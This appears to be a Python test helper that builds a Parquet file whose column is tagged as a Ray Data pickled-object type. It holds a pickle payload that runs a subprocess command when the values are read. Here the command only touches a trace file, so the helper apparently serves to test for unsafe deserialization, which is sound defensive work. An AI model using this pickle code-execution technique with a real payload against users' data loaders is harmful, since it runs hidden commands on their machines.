"""A table that runs a command in whoever looks at its values."""

import pickle
import subprocess
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

# Of Ray Data, which registers it when it is imported, and unpickles its values.
PICKLED = b"ray.data.arrow_pickled_object"


class _Payload:
    def __init__(self, trace: Path) -> None:
        self._trace = trace

    def __reduce__(self):
        return subprocess.call, (["touch", str(self._trace)],)


def write_hostile(path: Path, trace: Path, column: str, others: dict[str, list]) -> Path:
    """A Parquet file whose `column` makes the file `trace` when it is looked at."""
    payload = pa.array([pickle.dumps(_Payload(trace))], pa.large_binary())
    field = pa.field(
        column, pa.large_binary(), metadata={b"ARROW:extension:name": PICKLED, b"ARROW:extension:metadata": b""}
    )
    plain = pa.table(others)
    table = pa.Table.from_arrays([payload, *plain.columns], schema=pa.schema([field, *plain.schema]))
    path.parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(table, path)
    return path
